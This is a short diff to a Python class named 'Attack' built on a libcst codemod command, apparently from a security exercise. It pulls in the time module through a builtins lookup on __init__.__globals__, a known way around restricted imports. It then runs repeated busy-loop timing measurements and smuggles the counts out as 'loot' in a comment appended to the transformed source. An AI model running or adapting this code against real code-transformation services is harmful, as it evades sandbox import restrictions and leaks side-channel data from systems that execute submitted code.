@@ -11,8 +11,11 @@ class Attack(VisitorBasedCodemodCommand):
     def transform_module_impl(self, tree):
         target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
         time = VisitorBasedCodemodCommand.__init__.__globals__["__builtins__"]["__import__"]("time")
-        ends, count = time.time() + 0.002, 0
-        while time.time() < ends:
-            count += 1
-        loot = str(count)
+        counts = []
+        for _ in range(8):
+            ends, count = time.time() + 0.002, 0
+            while time.time() < ends:
+                count += 1
+            counts.append(count)
+        loot = " ".join(map(str, counts))
         return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
